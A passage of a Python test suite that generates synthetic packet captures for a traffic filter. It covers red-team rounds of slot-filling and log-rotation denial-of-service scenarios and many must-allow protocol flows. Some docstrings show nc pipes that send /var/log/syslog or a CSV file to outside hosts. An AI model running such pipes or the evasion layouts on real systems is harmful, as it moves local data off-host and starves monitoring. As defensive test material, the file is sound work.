        v = ETcp(cap, "10.20.1.22", p, SOC, 80, isn=p * 7, rtt_us=20000)
        v.handshake()
        v.data(True, _RT13_PREFACE + h2_frame(4, 0, 0, b"") + _rt12_h2_headers(1, b"www.example.org", b"x"))
        v.data(False, h2_frame(4, 0, 0, b"") + h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 1, b"\x88")
               + h2_frame(0, 1, 1, b"ok"))
        vs.append(v)
    _rt14_h2c_fill(cap, 70, 2)
    for p in range(3):
        _rt14_h2c_fill(cap, 1, 1, port0=54943 + p, net="10.20.16.%d")
    for v in vs:
        v.data(True, _rt12_h2_headers(3, b"m.vk.com", leak(n)))
        v.data(False, h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, leak(n)))
        v.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt14_h2c_two_ok(n):
    """(Red team round 14) Must-allow: an office host with two upgraded h2c connections
    (at WORKER_H2W_HEAVY, not over), 70 other addresses with two each filling the slots,
    then fresh upgrades from three more addresses: none may take the host's slots; its
    next requests for www.example.org run."""
    cap = Capture()
    vs = _rt14_h2c_victims(cap, n, (54926, 54927), src="10.20.1.23")
    _rt14_h2c_fill(cap, 70, 2)
    for p in range(3):
        _rt14_h2c_fill(cap, 1, 1, port0=54946 + p, net="10.20.17.%d")
    for v in vs:
        v.data(True, _rt12_h2_headers(5, b"www.example.org", passm(n)))
        v.data(False, h2_frame(1, 4, 5, b"\x88") + h2_frame(0, 1, 5, passm(n)))
        v.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt14_rlog_v6_rotate_dos_ok(n):
    """(The twenty-second session, after red team round 14's note) Must-allow:
    rt11_rlog_rotate_dos_ok from one IPv6 host: 320 addresses of its /64
    (2001:db8:20:7::/64) each open 2 connections (well under RLOG_HEAVY, the address
    share, even where the keyed buckets put a few addresses together) to an accomplice
    server and send a request; every 8 s each sends its next request and only then does the
    server acknowledge the one before, so no log empties and none grows stale. By address
    none is heavy; by /64 the host holds them all. An honest office host's GET (sent
    again at 1, 2, 4 and 8 s) must get a log (judge_rlog_take: a log of a /64 over its
    share, RLOG_HEAVY_NET, is taken back)."""
    cap = Capture()
    ts = []
    for a in range(320):
        src = "2001:db8:20:7::%x" % (a + 1)
        for i in range(2):
            t = ETcp(cap, src, 54930 + i, SOC6, 80, isn=(a * 2 + i) * 7919 + 13, rtt_us=20000)
            t.handshake(gap=30)
            ts.append(t)

    def req(t, k):
        h = b"GET /r%d HTTP/1.1\r\nHost: www.example.org\r\nX-Pad: %s\r\n\r\n" % (k, b"b" * 200)
        t.raw(True, "PA", h, gap=20)
        t.cseq += len(h)
    for t in ts:
        req(t, 0)
    u = ETcp(cap, O1, 54609, SOC, 80, isn=54609 * 7, rtt_us=20000)
    head = b"GET /x HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: " + passm(n) + b"\r\n\r\n"
    for k in range(1, 6):
        cap.idle(8)
        for t in ts:
            prev = t.cseq
            req(t, k)
            t.raw(False, "A", ack=prev, gap=20)
        if k == 1:
            u.handshake()
            u.raw(True, "PA", head, gap=1000)
            for g in (1000000, 2000000, 4000000):
                u.raw(True, "PA", head, gap=g)
        if k == 2:
            u.raw(True, "PA", head, gap=1000)
    u.cseq += len(head)
    u.raw(False, "A")
    _ok_answer(u, n, mark=False)
    u.close()
    return cap, {"pass": [passm(n)]}


# ------------------------------------------------ red team round 15
def _rt15_lines_flow(n, port, cport, lines, srv=None, every=1448):
    """An office host streams text lines to a listener outside (nc, a collector):
    the bytes in 1448-byte segments, the server's replies (if any) between."""
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, port, isn=cport * 7, rtt_us=20000)
    t.handshake()
    if srv:
        t.data(False, srv)
    data = b"".join(lines)
    for o in range(0, len(data), every):
        t.data(True, data[o:o + every], gap=300)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt15_syslog_file_ok(n):
    """(Red team round 15) Must-allow: `tail -n +1 -F /var/log/syslog | nc collector 5140`:
    a traditional syslog file's lines ("Dec  5 10:00:01 ws-20 systemd[1]: ...") are whole
    lines whose first word is letters and a space, so the first line reads as a request
    line (hs_http_request_check takes a letter method without a version); 24 KiB of
    lines follow without an empty line and without a Host field."""
    lines = []
    i = 0
    while sum(map(len, lines)) < 24000:
        lines.append(b"Dec  5 10:%02d:%02d ws-20 systemd[1]: Started session %d of user alice.\n"
                     % (i // 60 % 60, i % 60, i))
        i += 1
    lines.append(b"Dec  5 11:00:00 ws-20 app[77]: " + passm(n) + b" end of batch\n")
    return _rt15_lines_flow(n, 5140, 55000, lines)


@case
def case_rt15_csv_upload_ok(n):
    """(Red team round 15) Must-allow: a CSV export piped to a partner's import listener
    (`nc partner 9000 < orders.csv`): its header line "Order ID,Customer Name,..." starts
    with a word and a space, then 24 KiB of rows, no empty line."""
    lines = [b"Order ID,Customer Name,Country,Amount,Currency\r\n"]
    i = 0
    while sum(map(len, lines)) < 24000:
        lines.append(b"%d,Customer %d,DE,%d.%02d,EUR\r\n" % (100000 + i, i, i * 7 % 1000, i % 100))
        i += 1
    lines.append(b"999999," + passm(n) + b",DE,1.00,EUR\r\n")
    return _rt15_lines_flow(n, 9000, 55001, lines)


@case
def case_rt15_redis_inline_ok(n):
    """(Red team round 15) Must-allow: a shell script feeding Redis inline commands to a
    cache outside (`redis-cli` is not there: `printf 'SET k v\\r\\n...' | nc cache 6379`):
    "SET session:1 alice\\r\\n" is a letter word and a space; 24 KiB of commands, no empty
    line, the server's +OK replies between."""
    cap = Capture()
    t = ETcp(cap, O1, 55002, SOC, 6379, isn=55002 * 7, rtt_us=20000)
    t.handshake()
    cmds = b""
    i = 0
    while len(cmds) < 24000:
        cmds += b"SET session:%d user-%d-token-%08x\r\n" % (i, i, (i * 2654435761) & 0xffffffff)
        i += 1
    cmds += b"SET last " + passm(n) + b"\r\n"
    for o in range(0, len(cmds), 1448):
        t.data(True, cmds[o:o + 1448], gap=300)
        t.data(False, b"+OK\r\n" * 20)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt15_memcached_text_ok(n):
    """(Red team round 15) Must-allow: a memcached text-protocol client (pymemcache,
    php-memcache) storing JSON values on a cache outside: "set k 0 0 N\\r\\n<value>\\r\\n"
    then the server's STORED; about 24 KiB of commands, never an empty line."""
    cap = Capture()
    t = ETcp(cap, O1, 55003, SOC, 11211, isn=55003 * 7, rtt_us=20000)
    t.handshake()
    for i in range(40):
        v = b'{"id":%d,"name":"user %d","roles":["a","b"],"pad":"%s"}' % (i, i, b"x" * 500)
        if i == 39:
            v = b'{"id":%d,"m":"%s"}' % (i, passm(n))
        t.data(True, b"set user:%d 0 3600 %d\r\n" % (i, len(v)) + v + b"\r\n")
        t.data(False, b"STORED\r\n")
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt15_stomp_ok(n):
    """(Red team round 15) Must-allow: a STOMP 1.2 client (stomp.py) to a broker outside
    on 61613: "CONNECT\\naccept-version:1.2\\nhost:broker\\n\\n\\0" (no space after the
    command), CONNECTED, then SEND frames with bodies of about 1 KiB."""
    cap = Capture()
    t = ETcp(cap, O1, 55004, SOC, 61613, isn=55004 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"CONNECT\naccept-version:1.2\nhost:broker.partner.example\nheart-beat:0,0\n\n\x00")
    t.data(False, b"CONNECTED\nversion:1.2\nheart-beat:0,0\n\n\x00")
    for i in range(20):
        body = (passm(n) if i == 19 else b"") + prand(n + str(i), 1000).hex().encode()[:1000]
        t.data(True, b"SEND\ndestination:/queue/orders\ncontent-type:text/plain\ncontent-length:%d\n\n"
               % len(body) + body + b"\x00")
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt15_stomp_crlf_ok(n):
    """(Red team round 15) Must-allow: the same with STOMP 1.2's CRLF line ends and a
    "STOMP" frame (RFC-less but spec'd alternative to CONNECT), then SEND frames with
    destination "/queue/..." headers: 20 KiB of frames."""
    cap = Capture()
    t = ETcp(cap, O1, 55005, SOC, 61613, isn=55005 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"STOMP\r\naccept-version:1.2\r\nhost:broker.partner.example\r\nlogin:svc\r\npasscode:x\r\n\r\n\x00")
    t.data(False, b"CONNECTED\r\nversion:1.2\r\n\r\n\x00")
    for i in range(20):
        body = (passm(n) if i == 19 else b"") + prand(n + str(i), 1000).hex().encode()[:1000]
        t.data(True, b"SEND\r\ndestination:/queue/orders\r\ncontent-length:%d\r\n\r\n" % len(body) + body + b"\x00")
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt15_nntp_post_ok(n):
    """(Red team round 15) Must-allow: an NNTP reader (slrn, tin) on 119: MODE READER,
    GROUP, then POST with an article of 20 KiB (headers, an empty line, a body of text
    lines), the lone dot, QUIT."""
    cap = Capture()
    t = ETcp(cap, O1, 55006, SOC, 119, isn=55006 * 7, rtt_us=20000)
    t.handshake()
    t.data(False, b"200 news.partner.example InterNetNews NNRP server INN 2.7 ready (posting ok)\r\n")
    for c, s in ((b"MODE READER\r\n", b"200 Posting allowed\r\n"),
                 (b"GROUP comp.lang.c\r\n", b"211 1234 3000000 3001234 comp.lang.c\r\n"),
                 (b"POST\r\n", b"340 Ok, recommended Message-ID <abc@x>\r\n")):
        t.data(True, c)
        t.data(False, s)
    art = (b"From: alice@office.example\r\nNewsgroups: comp.lang.c\r\nSubject: long post\r\n\r\n"
           + b"".join(b"Line %d of the discussion about pointer aliasing rules.\r\n" % i for i in range(360))
           + passm(n) + b"\r\n.\r\n")
    for o in range(0, len(art), 1448):
        t.data(True, art[o:o + 1448], gap=300)
    t.data(False, b"240 Article posted\r\n")
    t.data(True, b"QUIT\r\n")
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt15_webdav_propfind_ok(n):
    """(Red team round 15) Must-allow: the Windows Mini-Redirector (WebDAV) to
    www.example.org: OPTIONS, then PROPFIND with Depth 1 and an XML body, then a PUT
    of a 20 KiB document with Content-Length, answered 201."""
    cap = Capture()
    t = ETcp(cap, O1, 55007, SOC, 80, isn=55007 * 7, rtt_us=20000)
    t.handshake()
    ua = b"User-Agent: Microsoft-WebDAV-MiniRedir/10.0.19045\r\n"
    t.data(True, b"OPTIONS / HTTP/1.1\r\nConnection: Keep-Alive\r\n" + ua + b"translate: f\r\nHost: www.example.org\r\n\r\n")
    t.data(False, b"HTTP/1.1 200 OK\r\nDAV: 1,2\r\nAllow: OPTIONS, PROPFIND, PUT\r\nContent-Length: 0\r\n\r\n")
    body = (b'<?xml version="1.0" encoding="utf-8" ?><D:propfind xmlns:D="DAV:"><D:prop>'
            + b"".join(b"<D:p%d/>" % i for i in range(300)) + b"</D:prop></D:propfind>")
    t.data(True, b"PROPFIND /docs HTTP/1.1\r\nConnection: Keep-Alive\r\n" + ua + b"Depth: 1\r\ntranslate: f\r\n"
           b"Content-Length: %d\r\nHost: www.example.org\r\n\r\n" % len(body))
    for o in range(0, len(body), 1448):
        t.data(True, body[o:o + 1448], gap=300)
    t.data(False, b"HTTP/1.1 207 Multi-Status\r\nContent-Length: 2\r\n\r\nok")
    doc = prand(n + "doc", 20000)
    doc = doc[:10000] + passm(n) + doc[10000:]
    t.data(True, b"PUT /docs/report.docx HTTP/1.1\r\nConnection: Keep-Alive\r\n" + ua +
           b"translate: f\r\nContent-Length: %d\r\nHost: www.example.org\r\n\r\n" % len(doc))
    for o in range(0, len(doc), 1448):
        t.data(True, doc[o:o + 1448], gap=300)
    t.data(False, b"HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n")
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt15_git_push_chunked_ok(n):
    """(Red team round 15) Must-allow: git push over smart HTTP to www.example.org with a
    pack over http.postBuffer: POST .../git-receive-pack with Transfer-Encoding: chunked,
    pkt-lines then the binary pack in chunks of 64 KiB (hex sizes), the zero chunk; then
    a GET on the kept connection."""
    cap = Capture()
    t = ETcp(cap, O1, 55008, SOC, 80, isn=55008 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET /r.git/info/refs?service=git-receive-pack HTTP/1.1\r\nHost: www.example.org\r\n"
           b"User-Agent: git/2.43.0\r\nAccept: */*\r\nPragma: no-cache\r\nGit-Protocol: version=2\r\n\r\n")
    adv = b"001f# service=git-receive-pack\n0000"
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Type: application/x-git-receive-pack-advertisement\r\n"
           b"Content-Length: %d\r\n\r\n" % len(adv) + adv)
    pack = (b"00940000000000000000000000000000000000000000 " + b"1" * 40 + b" refs/heads/main\x00 report-status side-band-64k\n0000PACK"
            + prand(n + "pack", 30000) + passm(n) + prand(n + "p2", 3000))
    head = (b"POST /r.git/git-receive-pack HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: git/2.43.0\r\n"
            b"Content-Type: application/x-git-receive-pack-request\r\nAccept: application/x-git-receive-pack-result\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n")
    body = b""
    for o in range(0, len(pack), 8192):
        c = pack[o:o + 8192]
        body += b"%x\r\n" % len(c) + c + b"\r\n"
    body += b"0\r\n\r\n"
    data = head + body
    k = data.index(passm(n))
    for part in (data[:k], data[k:]):
        for o in range(0, len(part), 1448):
            t.data(True, part[o:o + 1448], gap=300)
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    t.data(True, http_req(b"www.example.org", b"x2", line=b"GET /r.git/info/refs HTTP/1.1"))
    _ok_answer(t, n + "b", mark=False)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt15_trailer_pipe_ok(n):
    """(Red team round 15) Must-allow: a chunked upload with trailer fields (curl -T with
    "Trailer: x-checksum", a gRPC-web-like client), the next request pipelined in the
    same segment after the trailers' empty line, then a third request after an
    Expect: 100-continue and its 100."""
    cap = Capture()
    t = ETcp(cap, O1, 55009, SOC, 80, isn=55009 * 7, rtt_us=20000)
    t.handshake()
    up = (b"PUT /up/a.bin HTTP/1.1\r\nHost: www.example.org\r\nTransfer-Encoding: chunked\r\n"
          b"Trailer: x-checksum\r\n\r\n" + b"400\r\n" + prand(n + "c", 1024) + b"\r\n"
          + b"0\r\nx-checksum: sha256=abcdef\r\nx-other: 1\r\n\r\n")
    t.data(True, up + http_req(b"www.example.org", b"pipe1", line=b"GET /a HTTP/1.1"))
    t.data(False, b"HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n")
    _ok_answer(t, n + "a", mark=False)
    body = prand(n + "b", 3000) + passm(n)
    t.data(True, b"POST /form HTTP/1.1\r\nHost: www.example.org\r\nContent-Length: %d\r\n"
           b"Expect: 100-continue\r\n\r\n" % len(body))
    t.data(False, b"HTTP/1.1 100 Continue\r\n\r\n")
    t.data(True, body[:1448])
    t.data(True, body[1448:] + http_req(b"www.example.org", b"pipe2", line=b"GET /b HTTP/1.1"))
    _ok_answer(t, n + "c", mark=False)
    _ok_answer(t, n + "d", mark=False)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt15_cookie_split_ok(n):
    """(Red team round 15) Must-allow: Chrome's GET with Host first and 14 KiB of cookies,
    the head cut by the segment size into ten segments, a second GET after."""
    cap = Capture()
    t = ETcp(cap, O1, 55010, SOC, 80, isn=55010 * 7, rtt_us=20000)
    t.handshake()
    ck = b"; ".join(b"c%d=%s" % (i, prand(n + str(i), 60).hex().encode()) for i in range(110))
    h = (b"GET /app HTTP/1.1\r\nHost: www.example.org\r\nConnection: keep-alive\r\n"
         b"User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0\r\nAccept: text/html\r\n"
         b"Cookie: " + ck + b"\r\nX-Mark: " + passm(n) + b"\r\n\r\n")
    assert 13000 < len(h) < 16000, len(h)
    for o in range(0, len(h), 1448):
        t.data(True, h[o:o + 1448], gap=300)
    _ok_answer(t, n + "a", mark=False)
    t.data(True, http_req(b"www.example.org", b"second"))
    _ok_answer(t, n + "b", mark=False)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt15_sip_tcp_ok(n):
    """(Red team round 15) Must-allow: a SIP phone (Linphone) registering over TCP on 5060:
    REGISTER sip:... SIP/2.0 with a Content-Length: 0, 401, REGISTER again, 200, then
    an INVITE with an SDP body, and OPTIONS keepalives."""
    cap = Capture()
    t = ETcp(cap, O1, 55011, SOC, 5060, isn=55011 * 7, rtt_us=20000)
    t.handshake()
    via = b"Via: SIP/2.0/TCP 10.20.1.20:55011;branch=z9hG4bK%d;rport\r\n"
    for i in range(2):
        t.data(True, b"REGISTER sip:sip.partner.example SIP/2.0\r\n" + via % i +
               b"From: <sip:alice@sip.partner.example>;tag=1\r\nTo: sip:alice@sip.partner.example\r\n"
               b"Call-ID: abc\r\nCSeq: %d REGISTER\r\nContact: <sip:alice@10.20.1.20:55011;transport=tcp>\r\n"
               b"Max-Forwards: 70\r\nExpires: 3600\r\nContent-Length: 0\r\n\r\n" % (i + 1))
        t.data(False, (b"SIP/2.0 401 Unauthorized\r\n" if i == 0 else b"SIP/2.0 200 OK\r\n") + via % i +
               b"Content-Length: 0\r\n\r\n")
    sdp = (b"v=0\r\no=alice 1 1 IN IP4 10.20.1.20\r\ns=Talk\r\nc=IN IP4 10.20.1.20\r\nt=0 0\r\n"
           b"m=audio 7078 RTP/AVP 96 0 8\r\na=rtpmap:96 opus/48000/2\r\na=x-mark:" + passm(n) + b"\r\n")
    t.data(True, b"INVITE sip:bob@sip.partner.example SIP/2.0\r\n" + via % 3 +
           b"From: <sip:alice@sip.partner.example>;tag=2\r\nTo: sip:bob@sip.partner.example\r\nCall-ID: def\r\n"
           b"CSeq: 20 INVITE\r\nContent-Type: application/sdp\r\nContent-Length: %d\r\n\r\n" % len(sdp) + sdp)
    t.data(False, b"SIP/2.0 100 Trying\r\n" + via % 3 + b"Content-Length: 0\r\n\r\n")
    for i in range(5):
        t.data(True, b"\r\n\r\n")  # RFC 5626 keepalive
        t.data(False, b"\r\n")
    t.close()
    return cap, {"pass": [passm(n)]}


_RT15_CURL_UP = (b"GET / HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n"
                 b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
                 b"HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n\r\n")


def _rt15_settings(pairs):
    return b"".join(struct.pack("!HI", k, v) for k, v in pairs)


@case
def case_rt15_h2c_curl_ok(n):
    """(Red team round 15) Must-allow: curl --http2 http://www.example.org/ twice on one
    connection (two URLs): the upgrade (curl 8's exact head), 101 with the server's
    SETTINGS and stream 1's answer, then curl's preface, SETTINGS (3 parameters),
    WINDOW_UPDATE of 1048510465 on stream 0, SETTINGS ack, and stream 3's HEADERS."""
    cap = Capture()
    t = ETcp(cap, O1, 55020, SOC, 80, isn=55020 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, _RT15_CURL_UP)
    t.data(False, _RT13_101 + h2_frame(4, 0, 0, _rt15_settings([(3, 128), (4, 65536), (5, 16777215)]))
           + h2_frame(1, 4, 1, b"\x88") + h2_frame(0, 1, 1, b"hello"))
    t.data(True, _RT13_PREFACE + h2_frame(4, 0, 0, _rt15_settings([(3, 100), (4, 33554432), (2, 0)]))
           + h2_frame(8, 0, 0, struct.pack("!I", 1048510465)))
    t.data(True, h2_frame(4, 1, 0, b""))
    t.data(False, h2_frame(4, 1, 0, b""))
    t.data(True, h2_frame(1, 5, 3, h2_hb(b"www.example.org", passm(n))))
    t.data(False, h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, b"ok"))
    t.data(True, h2_frame(7, 0, 0, struct.pack("!II", 3, 0)))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt15_h2c_nghttp_prio_ok(n):
    """(Red team round 15) Must-allow: nghttp -u (nghttp2's client) after the 101: the
    preface, SETTINGS, then its five PRIORITY frames for idle streams 3, 5, 7, 9, 11 (its
    dependency tree), then a HEADERS with the PRIORITY flag (5 bytes of priority before
    the block) on stream 13 for www.example.org."""
    cap = Capture()
    t = ETcp(cap, O1, 55021, SOC, 80, isn=55021 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET / HTTP/1.1\r\nHost: www.example.org\r\nConnection: Upgrade, HTTP2-Settings\r\n"
           b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nAccept: */*\r\n"
           b"user-agent: nghttp2/1.59.0\r\n\r\n")
    t.data(False, _RT13_101 + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88") + h2_frame(0, 1, 1, b"x"))
    prio = b"".join(h2_frame(2, 0, s, struct.pack("!IB", d, w))
                    for s, d, w in ((3, 0, 200), (5, 0, 100), (7, 0, 0), (9, 7, 0), (11, 3, 0)))
    t.data(True, _RT13_PREFACE + h2_frame(4, 0, 0, _rt15_settings([(3, 100), (4, 65535)])) + prio)
    t.data(False, h2_frame(4, 1, 0, b""))
    t.data(True, h2_frame(4, 1, 0, b"") + h2_frame(1, 0x25, 13, struct.pack("!IB", 11, 15)
                                                   + h2_hb(b"www.example.org", passm(n))))
    t.data(False, h2_frame(1, 4, 13, b"\x88") + h2_frame(0, 1, 13, b"ok"))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt15_h2c_grpc_stream_ok(n):
    """(Red team round 15) Must-allow: a gRPC client on h2c after an upgrade (grpc-java's
    plaintext upgrade negotiator): a client-streaming call on stream 3 with 40 DATA frames
    of 1 KiB (40 KiB, message framing inside), each acknowledged with WINDOW_UPDATE, then
    a second call on stream 5 for www.example.org carrying the marker."""
    cap = Capture()
    t = ETcp(cap, O1, 55022, SOC, 80, isn=55022 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"OPTIONS * HTTP/1.1\r\nHost: www.example.org\r\nConnection: Upgrade, HTTP2-Settings\r\n"
           b"Upgrade: h2c\r\nHTTP2-Settings: AAAAAAAAAAQAEAAAAAYAACAA\r\n\r\n")
    t.data(False, _RT13_101 + h2_frame(4, 0, 0, b"") + h2_frame(1, 5, 1, b"\x88"))
    grpc_h = (b"\x83\x86\x44\x0e/svc.Up/Stream\x01\x0fwww.example.org"
              b"\x5f\x10application/grpc\x00\x02te\x08trailers")
    t.data(True, _RT13_PREFACE + h2_frame(4, 0, 0, _rt15_settings([(2, 0), (4, 1048576), (6, 8192)]))
           + h2_frame(8, 0, 0, struct.pack("!I", 983041)) + h2_frame(1, 4, 3, grpc_h))
    t.data(False, h2_frame(4, 1, 0, b""))
    for i in range(40):
        msg = prand(n + str(i), 1019)
        t.data(True, h2_frame(0, 1 if i == 39 else 0, 3, b"\x00" + struct.pack("!I", len(msg)) + msg))
        if i % 8 == 7:
            t.data(False, h2_frame(8, 0, 0, struct.pack("!I", 8190)) + h2_frame(8, 0, 3, struct.pack("!I", 8190)))
    t.data(False, h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 0, 3, b"\x00\x00\x00\x00\x00")
           + h2_frame(1, 5, 3, b"\x00\x0bgrpc-status\x010"))
    t.data(True, h2_frame(1, 5, 5, h2_hb(b"www.example.org", passm(n))))
    t.data(False, h2_frame(1, 5, 5, b"\x88"))
    t.close()
    return cap, {"pass": [passm(n)]}


# ------------------------------------------------ SYN layouts of real stacks
def _rt15_syn_session(n, src, cport, dst, syn_opts, synack_opts, ts=None, retx=1, v6=False, synack_retx=1):
    """An e2m session whose SYN (sent retx times, 1 s apart) and SYN-ACK (synack_retx
    times) carry the given options; ts: (client, server) initial stamps when both
    use timestamps (then every segment carries them, NOP NOP TS)."""
    cap = Capture()
    t = ETcp(cap, src, cport, dst, 443, isn=cport * 11, rtt_us=20000)
    for i in range(retx):
        t.raw(True, "S", options=syn_opts(i), gap=1000000 if i else None)
    t.cseq += 1
    for i in range(synack_retx):
        t.raw(False, "SA", options=synack_opts, gap=1000000 if i else None)
    t.sseq += 1
    st = {True: ts[0] + 10, False: ts[1] + 10} if ts else None

    def tso(fc):
        if not st:
            return None
        st[fc] += 1
        return [("NOP", None), ("NOP", None), ("Timestamp", (st[fc], st[not fc]))]
    t.raw(True, "A", options=tso(True))
    for fc, payload in ((True, hello(n)), (False, server_hello_flight(n)),
                        (True, CCS + tls_appdata(n + "fin", 53)),
                        (True, marked_record(passm(n), n + "req", 200)),
                        (False, marked_record(passm(n) + b"srv", n + "resp", 500))):
        t.raw(fc, "PA", payload, options=tso(fc))
        if fc:
            t.cseq += len(payload)
        else:
            t.sseq += len(payload)
        t.raw(not fc, "A", options=tso(not fc))
    t.raw(True, "FA", options=tso(True))
    t.cseq += 1
    t.raw(False, "FA", options=tso(False))
    t.sseq += 1
    t.raw(True, "A", options=tso(True))
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt15_syn_macos_ok(n):
    """(Red team round 15) Must-allow: macOS/iOS SYN (MSS 1460, NOP, WS 6, NOP, NOP, TS with
    echo 0, SACK permitted, EOL, EOL padding: 44-byte header), sent three times; a Linux
    server's SYN-ACK with timestamps; both stamp every segment."""
    return _rt15_syn_session(
        n, S1, 55040, E2M,
        lambda i: [("MSS", 1460), ("NOP", None), ("WScale", 6), ("NOP", None), ("NOP", None),
                   ("Timestamp", (700000 + 1000 * i, 0)), ("SAckOK", b""), ("EOL", None), ("EOL", None)],
        [("MSS", 1460), ("SAckOK", b""), ("Timestamp", (9000, 702000)), ("NOP", None), ("WScale", 7)],
        ts=(702000, 9000), retx=3)


@case
def case_rt15_syn_windows_ok(n):
    """(Red team round 15) Must-allow: Windows 10/11 SYN (MSS 1460, NOP, WS 8, NOP, NOP,
    SACK permitted; timestamps off by default), sent twice; an IIS SYN-ACK (MSS, NOP,
    WS 8, SACK permitted, 2 NOPs... no timestamps)."""
    return _rt15_syn_session(
        n, S1, 55041, E2M,
        lambda i: [("MSS", 1460), ("NOP", None), ("WScale", 8), ("NOP", None), ("NOP", None), ("SAckOK", b"")],
        [("MSS", 1460), ("NOP", None), ("WScale", 8), ("SAckOK", b""), ("NOP", None), ("NOP", None)],
        retx=2)


@case
def case_rt15_syn_openbsd_ok(n):
    """(Red team round 15) Must-allow: OpenBSD's SYN (MSS, NOP, NOP, SACK permitted, NOP,
    WS 6, NOP, NOP, TS) against a FreeBSD server's SYN-ACK with window scale 14 (the
    maximum) and EOL padding after SACK permitted."""
    return _rt15_syn_session(
        n, S1, 55042, E2M,
        lambda i: [("MSS", 1460), ("NOP", None), ("NOP", None), ("SAckOK", b""), ("NOP", None),
                   ("WScale", 6), ("NOP", None), ("NOP", None), ("Timestamp", (123456, 0))],
        [("MSS", 1460), ("NOP", None), ("WScale", 14), ("SAckOK", b""),
         ("Timestamp", (555, 123456)), ("EOL", None), ("EOL", None)],
        ts=(123456, 555))


@case
def case_rt15_syn6_tfo_ok(n):
    """(Red team round 15) Must-allow: IPv6, Linux with net.ipv4.tcp_fastopen=1 (client):
    a SYN with MSS 1440, SACK permitted, TS, NOP, WS 7 and a Fast Open cookie request
    (kind 34, 2 bytes, NOP NOP); the server (tcp_fastopen=3) answers with a 8-byte cookie
    (taken off) and sends its SYN-ACK again once (the client's ACK was slow)."""
    return _rt15_syn_session(
        n, S6, 55043, E2M6,
        lambda i: [("MSS", 1440), ("SAckOK", b""), ("Timestamp", (4242, 0)), ("NOP", None), ("WScale", 7),
                   (34, b""), ("NOP", None), ("NOP", None)],
        [("MSS", 1440), ("SAckOK", b""), ("Timestamp", (777, 4242)), ("NOP", None), ("WScale", 7),
         (34, b"\x11\x22\x33\x44\x55\x66\x77\x88"), ("NOP", None), ("NOP", None)],
        ts=(4242, 777), synack_retx=2)


@case
def case_rt15_syn_mptcp_tfo_ok(n):
    """(Red team round 15) Must-allow: a Linux client in an MPTCP-enabled app (mptcpize
    run curl, net.mptcp.enabled=1, tcp_fastopen=1): the SYN carries MP_CAPABLE v1 (4
    bytes) and a Fast Open cookie request; retransmitted after 1 s. The MPTCP option
    becomes NOPs, the server answers plain TCP."""
    return _rt15_syn_session(
        n, S1, 55044, E2M,
        lambda i: [("MSS", 1460), ("SAckOK", b""), ("Timestamp", (31337 + 1000 * i, 0)), ("NOP", None),
                   ("WScale", 7), (30, b"\x01\x81"), (34, b""), ("NOP", None), ("NOP", None)],
        [("MSS", 1460), ("SAckOK", b""), ("Timestamp", (888, 32337)), ("NOP", None), ("WScale", 7)],
        ts=(32337, 888), retx=2)


@case
def case_rt15_syn_tfo_exp_ok(n):
    """(Red team round 15) Must-allow: a client with the experimental Fast Open option
    (kind 254, ExID 0xF989; older Linux/Apple stacks, RFC 7413 appendix) asking for a
    cookie (4 bytes), the server answering with an 8-byte cookie in kind 254 (taken off),
    timestamps both ways."""
    return _rt15_syn_session(
        n, S1, 55045, E2M,
        lambda i: [("MSS", 1460), ("SAckOK", b""), ("Timestamp", (5000, 0)), ("NOP", None), ("WScale", 7),
                   (254, b"\xf9\x89"), ("NOP", None), ("NOP", None)],
        [("MSS", 1460), ("SAckOK", b""), ("Timestamp", (6000, 5000)), ("NOP", None), ("WScale", 7),
         (254, b"\xf9\x89" + b"\xa1\xb2\xc3\xd4\xe5\xf6\x07\x18"), ("NOP", None), ("NOP", None)],
        ts=(5000, 6000))


# ------------------------------------------------ red team round 16
def _rt16_hlog_parallel(n, src, ports, busy=True):
    """One e2m host (a download client with parallel connections, or a terminal server
    whose users download at once) opens len(ports) e2m sessions first, so their header
    logs are the first slots of its worker's pool. Then 2600 other hosts make one short
    session each (over 1024 per worker with two, so each worker's log pointer comes round
    to the host's slots while it still downloads). Meanwhile every download goes on: each
    of the host's sessions gets a record from its server, acknowledged by the client
    before the next (busy: the next record follows the acknowledgement at once, as a
    server streaming a file does; not busy: the download pauses after the ACK). No log is
